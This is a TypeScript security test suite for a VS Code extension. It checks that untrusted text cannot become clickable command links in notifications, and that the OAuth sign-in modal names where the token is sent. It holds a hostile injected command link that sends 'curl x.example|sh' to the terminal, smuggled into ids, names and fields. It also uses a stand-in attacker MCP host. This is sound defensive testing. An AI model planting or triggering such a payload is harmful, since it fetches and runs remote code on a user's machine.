import { standIn } from '../support/vscodeStandIn';
import * as assert from 'node:assert/strict';
import type * as vscode from 'vscode';
import { Attention } from '../../../src/host/attention';
import type { AttentionView } from '../../../src/host/attention';
import { openApprovalLink } from '../../../src/host/approvals/approvalLinks';
import { RunDocuments } from '../../../src/host/chores/runLinks';
import { openResumeLink } from '../../../src/host/chores/resumeLinks';
import { ElicitationForm } from '../../../src/host/mcp/elicitationForm';
import { VsCodeSignIn } from '../../../src/host/mcp/mcpSignIn';
import type { ApprovalView } from '../../../src/shared/approvalProtocol';
import { MemoryLogger } from '../../fakes/memoryLogger';
import { attack } from './attackTally';

// Review 2026-12c finding 2: text from a link, a model reply or an MCP server reached VS Code
// notifications, where `[label](command:…)` is a one-click command with arguments. Each probe's
// input goes through the real host code over the `vscode` stand-in; every message it shows is
// matched with VS Code's own link pattern (src/vs/base/common/linkedText.ts), which must find none.
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const HOSTILE = '8f3a2c. [open it in its window](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x.example%7Csh%22%7D "Open the run")';

function linksIn(text: string): string[] {
  return [...text.matchAll(VSCODE_LINK)].map((m) => m[0]);
}

function assertInert(messages: string[]): void {
  assert.ok(messages.length > 0, 'nothing was shown');
  for (const message of messages) assert.deepEqual(linksIn(message), [], `VS Code would make a link of: ${message}`);
}

const shown = () => [...standIn.notices.map((n) => n.message), ...standIn.modals.flatMap((m) => [m.message, m.detail])];

/** Attention while the sidebar is hidden, so each new wait is announced in a notification. */
function hiddenSidebarAttention(): Attention {
  const view: AttentionView = {
    visible: false,
    current: undefined,
    onDidChangeVisibility: () => ({ dispose: () => undefined }),
    showSession: async () => undefined,
  };
  const attention = new Attention(view, new MemoryLogger());
  attention.seed([], []);
  return attention;
}

/** A link as VS Code hands it to the URI handler. */
function linkUri(path: string, id: string): vscode.Uri {
  return { scheme: 'vscode', authority: 'tasklane.tasklane', path, query: new URLSearchParams({ id }).toString() } as unknown as vscode.Uri;
}

describe('security: untrusted text in VS Code notifications is never a link (review 2026-12c finding 2)', () => {
  beforeEach(() => standIn.reset());

  it('a /run link whose id carries a command link: the warning has no link and does not echo the id', async () => {
    await attack('notification link', async () => {
      const result = await new RunDocuments().open(HOSTILE, { run: () => undefined, choreName: () => undefined });
      assert.equal(result.opened, false);
      assertInert(shown());
      assert.doesNotMatch(shown().join('\n'), /sendSequence/);
    });
  });

  it('a /resume link whose id carries a command link: refused with no link, no modal, nothing resumed', async () => {
    await attack('notification link', async () => {
      let resumed = false;
      const result = await openResumeLink(HOSTILE, {
        run: () => undefined,
        chore: () => undefined,
        showTask: async () => undefined,
        resume: async () => ((resumed = true), 'resumed'),
        now: () => 0,
        confirm: async () => true,
      });
      assert.equal(result.resumed, false);
      assert.equal(resumed, false);
      assertInert(shown());
      assert.doesNotMatch(shown().join('\n'), /sendSequence/);
    });
  });

  it('an /approval link whose id carries a command link: the warning has no link', async () => {
    await attack('notification link', async () => {
      const targets = {
        openProposal: async () => undefined,
        commandApprovals: async () => [],
        ownsCommand: async () => false,
        showSession: async () => undefined,
      };
      const result = await openApprovalLink(linkUri('/approval', HOSTILE), 'tasklane.tasklane', targets);
      assert.equal(result.opened, false);
      assertInert(shown());
    });
  });

  it('a plain id is still named, so a person can tell which link was stale', async () => {
    const result = await new RunDocuments().open('run-abc123', { run: () => undefined, choreName: () => undefined });
    assert.match(result.opened === false ? result.reason : '', /no chore run run-abc123/);
  });

  it('the attention notification does not carry the command line the model asks to run', async () => {
    await attack('notification link', async () => {
      const attention = hiddenSidebarAttention();
      const approval = {
        id: 'cmd-1',
        kind: 'command',
        status: 'pending',
        sessionId: 's1',
        taskId: 't1',
        title: 'Run a command',
        command: `npm run lint -- --fix ${HOSTILE}`,
        files: [],
      } as unknown as ApprovalView;
      attention.onHostMessage({ type: 'approvalPatch', approval } as never);
      attention.dispose();
      assertInert(shown());
      assert.doesNotMatch(shown().join('\n'), /npm run lint/);
    });
  });

  it("a chore run's reason and a chore's name in the attention notification are inert", async () => {
    await attack('notification link', async () => {
      const attention = hiddenSidebarAttention();
      attention.onHostMessage({ type: 'chorePatch', chore: { id: 'c1', name: `triage ${HOSTILE}` } } as never);
      attention.onHostMessage({ type: 'choreRunPatch', run: { id: 'r1', choreId: 'c1', status: 'failed', reason: HOSTILE } } as never);
      attention.dispose();
      assert.equal(standIn.notices.length, 1);
      assertInert(shown());
    });
  });

  it("an MCP server's field title in the elicitation form and its warning is inert", async () => {
    await attack('notification link', async () => {
      standIn.answer = (modal) => modal.buttons[0];
      let picks = 0;
      standIn.pick = () => (picks++ === 0 ? [] : undefined);
      const form = new ElicitationForm();
      const answer = await form.elicit(
        {
          server: `docs ${HOSTILE}`,
          message: HOSTILE,
          fields: [{ key: 'p', title: `the projects. ${HOSTILE}`, required: true, kind: 'choices', options: [{ value: 'a', label: 'a' }], minItems: 2 }],
        },
        new AbortController().signal,
      );
      assert.equal(answer.action, 'cancel');
      assert.ok(
        standIn.notices.some((n) => /Pick at least 2/.test(n.message)),
        JSON.stringify(standIn.notices),
      );
      assertInert(shown());
    });
  });
});

// Review 2026-12c finding 11: the sign-in modal named the site asking for credentials, not the
// server that receives the token.
describe('security: the OAuth sign-in modal names where the token goes (review 2026-12c finding 11)', () => {
  beforeEach(() => standIn.reset());

  it('names the MCP server that receives the token, and flags a sign-in site of another site', async () => {
    await attack('oauth modal', async () => {
      const signIn = new VsCodeSignIn('tasklane.tasklane');
      const opened = await signIn.open(
        'docs',
        new URL('https://login.microsoftonline.com/common/oauth2/authorize?state=x'),
        'https://mcp.attacker.example/mcp',
      );
      assert.equal(opened, false);
      const [modal] = standIn.modals;
      assert.match(modal.detail, /token will be sent to https:\/\/mcp\.attacker\.example\/mcp/);
      assert.match(modal.detail, /login\.microsoftonline\.com\) is not the server's site \(mcp\.attacker\.example\)/);
    });
  });

  it("does not warn when the sign-in site is the server's own", async () => {
    const signIn = new VsCodeSignIn('tasklane.tasklane');
    await signIn.open('docs', new URL('https://login.example.com/authorize?state=x'), 'https://mcp.example.com/mcp');
    assert.doesNotMatch(standIn.modals[0].detail, /not the server's site/);
  });
});
